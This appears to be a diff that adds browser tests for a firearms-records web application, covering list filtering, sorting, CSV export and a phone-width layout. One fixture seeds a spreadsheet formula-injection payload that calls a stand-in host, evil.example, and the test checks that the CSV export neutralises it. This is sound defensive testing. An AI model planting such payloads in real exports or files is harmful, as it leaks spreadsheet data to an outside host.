@@ -1,0 +1,97 @@
+"""A list in the browser: filter, sort, export as CSV (formulas neutralised), and on a phone."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from armsbridge.db.engine import engine_from_settings
+from armsbridge.db.session import make_sessionmaker, session_scope
+from armsbridge.records import service as records
+from principals import as_actor
+
+from .conftest import PASSWORD, shot, sign_in
+
+pytestmark = pytest.mark.browser
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+@pytest.fixture(scope="module")
+def rifles(node: dict[str, Any]) -> dict[str, Any]:
+    """MK rifles, one whose make a spreadsheet would run as a formula."""
+    engine = engine_from_settings(node["settings"])
+    try:
+        with session_scope(make_sessionmaker(engine)) as s:
+            for n, make in enumerate([FORMULA, "Mauser", "Zastava"]):
+                records.create_record(
+                    s,
+                    record_type="firearm",
+                    user=as_actor("test", "MK"),
+                    data={
+                        "jurisdiction": "MK",
+                        "make": make,
+                        "model": f"R{n}",
+                        "kind": "rifle",
+                        "external_ref": f"browser-rifle-{n}",
+                    },
+                )
+    finally:
+        engine.dispose()
+    return node
+
+
+def test_filter_sort_and_export_a_list(page, rifles) -> None:
+    node = rifles
+    sign_in(page, node, "mk-analyst")
+    page.goto(f"{node['url']}/records/firearms")
+    page.get_by_label("Kind").select_option("rifle")  # the form submits itself on change
+    page.wait_for_url(re.compile(r"kind=rifle"))
+    page.locator("#record-list thead a[data-sort=make]").click()
+    page.wait_for_url(re.compile(r"sort=make&dir=asc"))
+    assert "kind=rifle" in page.url  # sorting kept the filter
+    makes = page.locator("#record-list tbody tr td:first-child a").all_inner_texts()
+    assert FORMULA in makes and "Mauser" in makes
+    assert makes == sorted(makes)
+    shot(page, "list-filtered")
+    with page.expect_download() as download:
+        page.locator("#export-csv").click()
+    path = download.value.path()
+    assert download.value.suggested_filename.endswith(".csv")
+    rows = list(csv.reader(io.StringIO(Path(path).read_text(encoding="utf-8-sig"))))
+    assert rows[0][:2] == ["Make", "Model"]
+    made = [r[0] for r in rows[1:]]
+    assert "'" + FORMULA in made  # shown as text by a spreadsheet, never run
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    assert all(row[0] for row in rows[1:]) and len(rows) - 1 == len(makes)
+
+
+def test_a_list_on_a_phone_has_no_page_scroll(browser, rifles) -> None:
+    node = rifles
+    context = browser.new_context(
+        viewport={"width": 390, "height": 844}, locale="en-GB", has_touch=True, is_mobile=True
+    )
+    context.set_default_timeout(15_000)
+    phone = context.new_page()
+    try:
+        phone.goto(f"{node['url']}/login")
+        phone.get_by_label("User name").fill("mk-analyst")
+        phone.get_by_label("Password").fill(PASSWORD)
+        phone.get_by_role("button", name="Sign in").click()
+        phone.wait_for_url(f"{node['url']}/")
+        cols = "make,model,calibre,category,serial_raw,kind,status,markings,updated_at"
+        phone.goto(f"{node['url']}/records/firearms?cols={cols}")
+        width = phone.evaluate("document.documentElement.scrollWidth")
+        assert width <= 390, f"the page is {width} px wide at 390 px"
+        # the filters fold away on a phone; the summary opens them
+        assert not phone.locator("#list-filters").is_visible()
+        shot(phone, "list-phone")
+        phone.locator(".list-filters summary").click()
+        assert phone.locator("#list-filters").is_visible()
+        assert phone.evaluate("document.documentElement.scrollWidth") <= 390
+    finally:
+        context.close()
